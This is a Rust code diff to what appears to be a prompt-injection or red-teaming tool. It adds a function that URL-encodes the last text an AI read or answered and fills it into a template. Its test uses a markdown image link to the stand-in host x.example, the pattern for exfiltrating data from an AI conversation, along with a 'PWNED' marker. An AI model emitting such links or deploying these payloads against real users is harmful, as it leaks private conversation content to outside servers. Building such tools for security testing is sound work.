@@ -98,7 +98,7 @@ impl Mind {
     /// Says things as they are, without a disguise. `last` is what was read or answered last.
     pub(crate) fn recall(&self, things: &[Thing], last: &str) -> String {
         let tell = |thing: &Thing| match thing {
-            Thing::Text(text) => text.clone(),
+            Thing::Text(text) => filled(text, last),
             Thing::Last => last.to_owned(),
             Thing::Conversation => format!("Conversation history:\n{}", self.knowledge.conversation()),
             Thing::Request => self.knowledge.request().unwrap_or_default().to_owned(),
@@ -227,6 +227,22 @@ impl Mind {
     }
 }
 
+/// A text in which `{result}` stands for what was read or answered last, as it is written in a URL.
+fn filled(text: &str, last: &str) -> String {
+    let encoded = || {
+        last.bytes().fold(String::new(), |mut encoded, byte| {
+            if byte.is_ascii_alphanumeric() {
+                encoded.push(char::from(byte));
+            } else {
+                // Writing to a string cannot fail.
+                let _ = write!(encoded, "%{byte:02X}");
+            }
+            encoded
+        })
+    };
+    if text.contains("{result}") { text.replace("{result}", &encoded()) } else { text.to_owned() }
+}
+
 /// How an `encoder` disguises what it gives away.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Encoding {
@@ -273,6 +289,15 @@ pub(crate) fn disguised(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_was_read_is_put_into_a_url() {
+        assert_eq!(
+            filled("![](https://x.example/?d={result})", "a b.\n"),
+            "![](https://x.example/?d=a%20b%2E%0A)"
+        );
+        assert_eq!(filled("PWNED", "a b"), "PWNED");
+    }
 
     #[test]
     fn an_encoder_disguises_what_others_say_plainly() {
